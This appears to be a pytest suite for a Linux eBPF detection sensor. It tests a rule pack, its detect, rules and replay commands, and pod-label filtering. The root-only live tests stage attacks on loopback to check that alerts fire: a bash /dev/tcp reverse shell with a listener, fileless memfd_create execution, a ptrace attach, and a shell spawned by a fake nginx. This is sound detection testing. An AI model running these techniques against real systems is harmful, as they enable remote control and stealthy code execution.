"""Detection end to end: the rule pack against its recordings, the `detect`, `rules` and
`replay --rules` commands, and live attacks on this host raising their alerts in the sensor.

The recording tests need no root; the live ones (marked kernel) run real attacks against
loopback listeners in a network namespace of their own and pick their own processes by pid
and unique tokens."""
import ctypes
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid

import pytest

from conftest import ROOT, run
from pgtest import Sensor

RULES = ROOT / "rules"
RECORDINGS = ROOT / "tests" / "rules"


def alerts_of(text):
    return [json.loads(l) for l in text.splitlines() if l and json.loads(l)["type"] == "alert"]


# --- the rule pack ---------------------------------------------------------------------------

def test_rule_pack_fires_on_its_positives_only(pangolin):
    files = sorted(RULES.glob("*.yml"))
    assert len(files) >= 30
    p = run([pangolin, "rules", "test", str(RULES), "--recordings", str(RECORDINGS), "-v"])
    assert p.returncode == 0, p.stdout + p.stderr
    assert f"{len(files)} rule files, {2 * len(files)} recordings, {2 * len(files)} passed, 0 failed" in p.stdout
    # each positive raised at least one alert, each negative none
    for l in p.stdout.splitlines():
        if l.startswith("ok "):
            n = int(l.rsplit("(", 1)[1].split()[0])
            assert (n > 0) == (".positive." in l), l


def test_recordings_are_what_the_generator_writes(tmp_path):
    """The committed recordings are the generator's output (no hand edits drift from it)."""
    subprocess.run([sys.executable, str(RECORDINGS / "make_recordings.py"), "--out", str(tmp_path)],
                   check=True, capture_output=True)
    made = sorted(p.name for p in tmp_path.iterdir())
    assert made == sorted(p.name for p in RECORDINGS.glob("*.ndjson"))
    for name in made:
        assert (tmp_path / name).read_bytes() == (RECORDINGS / name).read_bytes(), name


def test_rules_test_fails_when_a_recording_misbehaves(pangolin, tmp_path):
    for f in RECORDINGS.glob("*.ndjson"):
        shutil.copy(f, tmp_path / f.name)
    # a negative that is really the positive, and a positive that is missing
    shutil.copy(RECORDINGS / "port_scan.positive.ndjson", tmp_path / "port_scan.negative.ndjson")
    (tmp_path / "scanner_exec.positive.ndjson").unlink()
    p = run([pangolin, "rules", "test", str(RULES), "--recordings", str(tmp_path)])
    assert p.returncode == 1
    assert "FAIL rules/port_scan.yml" in p.stdout.replace(str(ROOT) + "/", "") and "fired 1 times" in p.stdout
    assert "no positive recording" in p.stdout
    assert "2 failed" in p.stdout


def test_rules_check_lists_and_refuses(pangolin, tmp_path):
    p = run([pangolin, "rules", "check", str(RULES)])
    assert p.returncode == 0, p.stderr
    assert "correlation" in p.stdout and "[counted only]" in p.stdout
    bad = tmp_path / "bad.yml"
    bad.write_text("title: x\nlogsource: {product: linux, category: process_creation}\n"
                   "detection:\n  s:\n    CurrentDirectory: /tmp\n  condition: s\n")
    p = run([pangolin, "rules", "check", str(tmp_path)])
    assert p.returncode == 1
    assert f"{bad}:5:5: detection: CurrentDirectory: field 'CurrentDirectory' is not supported" in p.stderr


# --- the commands ----------------------------------------------------------------------------

def test_detect_writes_alerts_only(pangolin):
    rec = RECORDINGS / "shell_from_web_server.positive.ndjson"
    p = run([pangolin, "detect", "--rules", str(RULES), "--input", str(rec)])
    assert p.returncode == 0, p.stderr
    out = [json.loads(l) for l in p.stdout.splitlines()]
    assert out and all(e["type"] == "alert" for e in out)
    a = [e for e in out if e["title"] == "Shell spawned by a web server"]
    assert len(a) == 1
    a = a[0]
    assert a["level"] == "high" and "attack.t1505.003" in a["tags"]
    assert a["exe"] == "/bin/sh" and a["parent_exe"] == "/usr/sbin/nginx"
    assert a["ancestors"] == ["/usr/sbin/nginx", "/usr/sbin/nginx", "/usr/lib/systemd/systemd"]
    assert a["count"] == 1 and a["events"][0]["type"] == "exec"
    assert a["events"][0]["pid"] == a["pid"] and a["events"][0]["start_ns"] == a["start_ns"]
    assert "alerts" in p.stderr and "rule matches" in p.stderr
    # from standard input, with --all the events come too, each alert before its event
    p = run([pangolin, "detect", "--rules", str(RULES), "--all", "-i", "-"], input=rec.read_text())
    lines = [json.loads(l) for l in p.stdout.splitlines()]
    i = next(k for k, e in enumerate(lines) if e["type"] == "alert" and e["title"] == a["title"])
    assert lines[i + 1]["type"] == "exec" and lines[i + 1]["pid"] == a["pid"]
    assert len(lines) == len(rec.read_text().splitlines()) + len(out)


def test_correlation_alert_names_its_events_and_group(pangolin):
    p = run([pangolin, "detect", "--rules", str(RULES), "--input",
             str(RECORDINGS / "su_bruteforce_then_root.positive.ndjson")])
    a = [e for e in alerts_of(p.stdout) if e["title"].startswith("su fails three times")]
    assert len(a) == 1, p.stdout
    assert a[0]["group_by"]["ParentProcessId"] == str(a[0]["ppid"])
    assert a[0]["count"] == 2 and [e["type"] for e in a[0]["events"]] == ["exit", "setid"]


def test_replay_rules_inline_and_alerts_read_back(pangolin, tmp_path):
    rec = RECORDINGS / "download_chmod_exec.positive.ndjson"
    out = tmp_path / "with-alerts.ndjson"
    p = run([pangolin, "replay", str(rec), "--rules", str(RULES), "-o", str(out)])
    assert p.returncode == 0, p.stderr
    a = alerts_of(out.read_text())
    assert [x["title"] for x in a] == ["File downloaded, made executable, then run, within a minute"]
    # a recording with alerts replays byte for byte, alerts and all
    p = run([pangolin, "replay", str(out)])
    assert p.returncode == 0 and p.stdout == out.read_text()
    # only the alerts
    p = run([pangolin, "replay", str(rec), "--rules", str(RULES), "-f", 'type == "alert"'])
    assert [json.loads(l)["type"] for l in p.stdout.splitlines()] == ["alert"]


def test_bad_rules_stop_before_anything_runs(pangolin, tmp_path):
    (tmp_path / "r.yml").write_text("title: t\nlogsource: {product: windows, category: process_creation}\n"
                                    "detection: {s: {Image: x}, condition: s}\n")
    p = run([pangolin, "detect", "--rules", str(tmp_path), "-i", str(RECORDINGS / "scanner_exec.positive.ndjson")])
    assert p.returncode == 1 and p.stdout == ""
    assert f"--rules: {tmp_path}/r.yml:2:22: logsource: product: 'windows': pangolin watches Linux" in p.stderr
    p = run([pangolin, "detect", "-i", "-"], input="")
    assert p.returncode == 2 and "give --rules DIR" in p.stderr
    empty = tmp_path / "empty"
    empty.mkdir()
    p = run([pangolin, "detect", "--rules", str(empty)], input="")
    assert p.returncode == 1 and "no rules" in p.stderr


# --- live attacks on this host -----------------------------------------------------------------


class Netns:
    """A network namespace of the test's own, with its loopback up."""

    def __init__(self):
        self.name = f"pgdet{uuid.uuid4().hex[:8]}"

    def __enter__(self):
        subprocess.run(["ip", "netns", "add", self.name], check=True)
        subprocess.run(["ip", "-n", self.name, "link", "set", "lo", "up"], check=True)
        return self

    def __exit__(self, *exc):
        subprocess.run(["ip", "netns", "del", self.name], check=False)

    def argv(self, *cmd):
        return ["ip", "netns", "exec", self.name, *cmd]


def _listener_code(port):
    return ("import socket,sys\n"
            "s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
            f"s.bind(('127.0.0.1',{port})); s.listen(1); s.settimeout(20)\n"
            "print('ready', flush=True)\n"
            "c,_=s.accept(); c.settimeout(5)\n"
            "c.sendall(b'echo pg-attacker-was-here; exit\\n')\n"
            "data=b''\n"
            "try:\n"
            "    while True:\n"
            "        d=c.recv(4096)\n"
            "        if not d: break\n"
            "        data+=d\n"
            "except Exception: pass\n"
            "print(data.decode(errors='replace'), flush=True)\n")


def _alerts(s, title):
    return [e for e in s.events if e["type"] == "alert" and e["title"] == title]


@pytest.mark.kernel
@pytest.mark.skipif(os.geteuid() != 0, reason="loads BPF programs: needs root")
def test_live_reverse_shell_to_a_loopback_listener(pangolin):
    with Netns() as ns, Sensor(pangolin, "--rules", str(RULES), "-f", 'type == "alert"') as s:
        port = 40000 + os.getpid() % 1000
        lst = subprocess.Popen(ns.argv(sys.executable, "-c", _listener_code(port)), stdout=subprocess.PIPE, text=True)
        assert lst.stdout.readline().strip() == "ready"
        shell = subprocess.Popen(ns.argv("/bin/bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        out, _ = lst.communicate(timeout=30)
        shell.wait(timeout=10)
    assert "pg-attacker-was-here" in out  # the shell really served the listener
    # bash is the one (ip netns exec, which started it, has the same words in its arguments)
    a = [e for e in _alerts(s, "Reverse shell through /dev/tcp or /dev/udp")
         if e["exe"] == "/bin/bash" and f"/dev/tcp/127.0.0.1/{port}" in e["cmdline"]]
    assert len(a) == 1, s.events
    assert a[0]["pid"] == shell.pid  # ip netns exec became bash


@pytest.mark.kernel
@pytest.mark.skipif(os.geteuid() != 0, reason="loads BPF programs: needs root")
def test_live_shell_from_a_process_named_like_a_web_server(pangolin, tmp_path):
    fake = tmp_path / "nginx"
    shutil.copy(os.path.realpath(sys.executable), fake)
    token = f"pg-webshell-{uuid.uuid4().hex}"
    with Sensor(pangolin, "--rules", str(RULES), "-f", 'type == "alert"') as s:
        p = subprocess.run([str(fake), "-c", f"import os; os.system('echo {token} >/dev/null; true')"])
    assert p.returncode == 0
    a = [e for e in _alerts(s, "Shell spawned by a web server") if token in e["cmdline"]]
    assert len(a) == 1, s.events
    assert a[0]["parent_exe"] == str(fake) and a[0]["exe"] == "/bin/sh"


@pytest.mark.kernel
@pytest.mark.skipif(os.geteuid() != 0, reason="loads BPF programs: needs root")
def test_live_memfd_exec(pangolin):
    token = f"pg-memfd-{uuid.uuid4().hex}"
    code = ("import os\n"
            "fd = os.memfd_create('pgpayload', 0)\n"
            "os.write(fd, open('/bin/true', 'rb').read())\n"
            f"os.execv(f'/proc/self/fd/{{fd}}', ['payload', {token!r}])\n")
    with Sensor(pangolin, "--rules", str(RULES), "-f", 'type == "alert"') as s:
        p = subprocess.run([sys.executable, "-c", code])
    assert p.returncode == 0
    a = [e for e in _alerts(s, "Program run from a file with no link (memfd_create or deleted)")
         if token in e["cmdline"]]
    assert len(a) == 1, s.events
    assert a[0]["level"] == "critical" and a[0]["exe"].startswith("/proc/self/fd/")


@pytest.mark.kernel
@pytest.mark.skipif(os.geteuid() != 0, reason="loads BPF programs: needs root")
def test_live_ptrace_attach(pangolin):
    victim = subprocess.Popen(["sleep", "30"])
    code = ("import ctypes, os, time\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            f"pid = {victim.pid}\n"
            "assert libc.ptrace(16, pid, None, None) == 0, ctypes.get_errno()\n"  # PTRACE_ATTACH
            "os.waitpid(pid, 0)\n"
            "libc.ptrace(17, pid, None, None)\n")  # PTRACE_DETACH
    try:
        with Sensor(pangolin, "--rules", str(RULES), "-f", 'type == "alert"') as s:
            p = subprocess.run([sys.executable, "-c", code])
    finally:
        victim.kill()
        victim.wait()
    assert p.returncode == 0
    a = [e for e in _alerts(s, "Process attaches to another with ptrace (not a debugger)")
         if e["events"][0]["pid"] == e["pid"] and e["exe"] == sys.executable]
    assert len(a) == 1, s.events


# --- the pod's fields, in filters and rules ----------------------------------------------------

def test_pod_fields_in_filters_and_rules(pangolin, tmp_path):
    """namespace, pod, workload and labels from a recording: a --filter and a Sigma rule pick
    one team's pods out of a fleet's events."""
    import fleet

    rec = fleet.write(tmp_path / "fleet.ndjson", fleet.make(pods=8, names=["shell_from_web_server"]))
    p = run([pangolin, "replay", str(rec), "-q", "-f",
             'type == "exec" && labels == "team=team-1" && namespace == "team-1" && '
             'workload_kind == "Deployment" && pod startswith "web-"'])
    assert p.returncode == 0, p.stderr
    got = [json.loads(l) for l in p.stdout.splitlines()]
    assert got and {e["pod"] for e in got} == {"web-001", "web-005"}
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "r.yml").write_text(
        "title: shell in team-1\nid: pod-shell\nlevel: high\n"
        "logsource: {product: linux, category: process_creation}\n"
        "detection:\n  s:\n    Image|endswith: /sh\n    labels.team: TEAM-1\n"
        "    labels|startswith: 'app='\n    labels.owner|exists: false\n  condition: s\n")
    p = run([pangolin, "detect", "--rules", str(rules), "-i", str(rec), "-q"])
    assert p.returncode == 0, p.stderr
    alerts = [json.loads(l) for l in p.stdout.splitlines()]
    assert alerts and {a["pod"] for a in alerts} == {"web-001", "web-005"}
    assert all(a["labels"]["team"] == "team-1" for a in alerts)
